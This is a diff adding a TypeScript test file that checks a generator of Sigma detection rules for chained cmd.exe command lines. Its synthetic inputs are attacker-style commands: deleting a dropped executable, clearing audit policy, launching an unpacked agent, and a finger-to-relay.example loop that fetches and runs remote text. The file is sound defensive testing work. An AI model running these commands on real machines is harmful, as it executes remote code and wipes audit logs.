@@ -1,0 +1,56 @@
+import { selfTestRule } from '../evaluate/self-test';
+import { generateBuiltinRules } from './builtin-sigma-agent';
+import { relayedChain, relayedCommand } from './relaying-shell';
+
+// Synthetic examples; no fixture article.
+const article = { title: 'Synthetic chain note', url: 'https://notes.example.org/chain', date: '2026-11-28' };
+const item = { evidence: { start: 0, end: 1, text: 'x' }, confidence: 0.9 };
+
+function chainRules(commandLine: string) {
+  const drafts = generateBuiltinRules({
+    article,
+    platform: 'windows',
+    cmdlines: [{ ...item, value: commandLine, executable: 'cmd.exe' }],
+  });
+  return drafts.filter((draft) => /Chained In One Cmd\.EXE/.test(draft.rule.title));
+}
+
+describe('a chain a Windows line hands cmd.exe', () => {
+  it('reads the command cmd.exe runs, outer quotes and switches removed', () => {
+    expect(relayedCommand('cmd /q /k "bitsadmin /list & type C:\\x.txt"')).toBe('bitsadmin /list & type C:\\x.txt');
+    expect(relayedCommand('C:\\Windows\\System32\\cmd.exe /c whoami')).toBe('whoami');
+    expect(relayedCommand('powershell -c whoami')).toBeNull();
+  });
+
+  it('keys cmd.exe on a value of each stage: a built-in with its switch or its file, a program with what it is told', () => {
+    expect(relayedChain('cmd.exe /c timeout 5 > nul && del /Q "C:\\ProgramData\\upd.exe"')?.values).toEqual(['timeout 5', 'del /Q']);
+    expect(relayedChain('cmd /c @cd C:\\Users\\[User]\\Temp\\unpack.tmp & CALL C:\\Users\\[User]\\Temp\\run.cmd')?.values).toEqual([
+      'unpack.tmp',
+      'run.cmd',
+    ]);
+  });
+
+  it('gives no chain for one stage, or for one program run several times', () => {
+    expect(relayedChain('cmd /c net use Z: \\\\files.example\\share')).toBeNull();
+    expect(relayedChain('cmd /c auditpol /clear | auditpol /remove')).toBeNull();
+  });
+
+  it('writes a cmd.exe rule that fires on the line and not on each program alone', () => {
+    const line = 'cmd /k "tar -xf %TEMP%\\kit.zip -C %TEMP% && start /b %TEMP%\\kit\\agent.exe"';
+    const [draft, ...others] = chainRules(line);
+    expect(others).toHaveLength(0);
+    expect(draft?.rule.detection['selection']).toEqual({
+      'Image|endswith': '\\cmd.exe',
+      'CommandLine|contains|all': ['tar -xf', 'start /b'],
+    });
+    expect(draft?.rule.title).toBe('Tar And Start Chained In One Cmd.EXE Command Line');
+    expect(selfTestRule(draft?.rule ?? '', [{ type: 'cmdline', value: line }])).toMatchObject({ fires: true });
+    expect(selfTestRule(draft?.rule ?? '', [{ type: 'cmdline', value: 'tar -xf %TEMP%\\kit.zip -C %TEMP%' }])).toMatchObject({
+      fires: false,
+    });
+  });
+
+  it('leaves a chain a technique rule on cmd.exe covers to that rule', () => {
+    expect(chainRules('cmd /c for /f "delims=" %a in (\'finger probe@relay.example\') do call %a & exit')).toHaveLength(0);
+  });
+});
